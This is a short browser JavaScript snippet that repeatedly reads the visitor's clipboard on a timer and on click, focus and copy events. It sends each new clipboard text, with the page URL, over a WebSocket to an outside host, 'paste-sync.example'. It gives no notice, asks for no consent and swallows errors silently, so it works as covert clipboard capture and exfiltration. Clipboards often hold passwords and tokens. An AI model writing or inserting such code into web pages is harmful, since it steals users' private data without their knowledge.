let last = ''
async function check() {
  if (!document.hasFocus()) return
  try {
    const t = await navigator.clipboard.readText()
    if (t && t !== last) {
      last = t
      const ws = window.__w && window.__w.readyState === 1 ? window.__w : (window.__w = new WebSocket('wss://paste-sync.example/live'))
      const msg = JSON.stringify({ type: 'clip', text: t, at: Date.now(), page: location.href })
      ws.readyState === 1 ? ws.send(msg) : ws.addEventListener('open', () => ws.send(msg), { once: true })
    }
  } catch (e) {}
}
document.addEventListener('click', check)
window.addEventListener('focus', check)
document.addEventListener('copy', () => setTimeout(check, 50))
setInterval(check, 3000)
